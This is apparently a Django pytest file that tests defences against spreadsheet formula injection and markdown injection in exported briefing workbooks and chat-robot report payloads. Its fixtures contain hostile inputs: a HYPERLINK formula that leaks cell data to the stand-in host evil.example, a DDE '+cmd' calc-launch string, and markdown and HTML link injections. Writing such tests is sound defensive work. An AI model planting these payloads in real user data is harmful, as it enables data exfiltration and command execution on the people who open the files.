"""Names are user data: in the briefing's workbook they stay text (never a formula), in the group robots'
markdown they stay words (never a link or an image)."""

import io
import re
from datetime import timedelta

import pytest
from django.core import mail
from django.utils import timezone
from openpyxl import load_workbook

from briefing import reports, tasks
from briefing.workbook import report_workbook
from cases.choices import TicketStatus
from core.text import markdown_text
from core.xlsx import write_text
from tests import factories as f

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点此")'
MARKDOWN = "[点此](http://evil.example) ![x](http://evil.example/a.png)"


def overdue_ticket(world):
    """A ticket of tenant1 assigned ten days ago, five days past its deadline."""
    long_ago = timezone.now() - timedelta(days=10)
    ticket = f.TicketFactory(enterprise=world.tenant1, status=TicketStatus.ASSIGNED, created_at=long_ago)
    type(ticket).objects.filter(pk=ticket.pk).update(
        assigned_at=long_ago, deadline=timezone.localdate() - timedelta(days=5)
    )
    return ticket


def test_a_register_name_that_is_a_formula_stays_text_in_the_briefing_workbook(world):
    type(world.zone_b).objects.filter(pk=world.zone_b.pk).update(name=FORMULA)
    type(world.tenant1).objects.filter(pk=world.tenant1.pk).update(name="+cmd|' /C calc'!A0")
    overdue_ticket(world)

    data = reports.build_report_data(timezone.localdate() - timedelta(days=1))["all"]
    book = load_workbook(io.BytesIO(report_workbook(data)))

    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    hostile = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=HYPER", "+cmd"))]
    assert {cell.value[:5] for cell in hostile} == {"=HYPE", "+cmd|"}, [c.value for c in cells if c.value]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)


def test_write_text_is_the_guard_of_every_cell():
    from openpyxl import Workbook

    sheet = Workbook().active
    for index, value in enumerate(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "安全", "a=b"], start=1):
        write_text(sheet.cell(row=index, column=1), value)
    cells = [sheet.cell(row=index, column=1) for index in range(1, 9)]
    assert all(cell.data_type == "s" for cell in cells)
    assert [cell.quotePrefix for cell in cells] == [True] * 6 + [False, False]


def test_markdown_text_keeps_the_words_and_drops_the_markup():
    assert markdown_text("永康甲五金有限公司") == "永康甲五金有限公司"
    escaped = markdown_text(MARKDOWN)
    assert "点此" in escaped and "evil.example" in escaped
    assert not re.search(r"[\[\]()!<>*_`#|]", escaped) and "://" not in escaped
    assert "\n" not in markdown_text("甲\n# 标题")


def test_a_name_with_markdown_becomes_no_link_or_image_in_the_robots_payload(world, robot, settings, run):
    type(world.tenant1).objects.filter(pk=world.tenant1.pk).update(name=MARKDOWN)
    type(world.zone_a).objects.filter(pk=world.zone_a.pk).update(name="**中申达**<a href='http://evil.example'>x</a>")
    overdue_ticket(world)
    settings.REPORT_WEBHOOK_URLS = [robot.url + "/wecom?key=k", robot.url + "/dingtalk?access_token=t"]

    run(tasks.send_daily_report_task, (timezone.localdate() - timedelta(days=1)).isoformat())
    mail.outbox.clear()

    texts = [p["markdown"].get("content") or p["markdown"].get("text") for p in robot.received]
    assert len(texts) == 2, robot.received
    for text in texts:
        assert "点此" in text  # the name is there, as words
        links = re.findall(r"!?\[[^\]]*\]\(([^)]*)\)", text)
        assert all("evil.example" not in target for target in links), links  # only the product's own link
        assert "![" not in text and "<a " not in text and "**中申达**" not in text
        assert "evil.example" in text  # shown as text, harmless
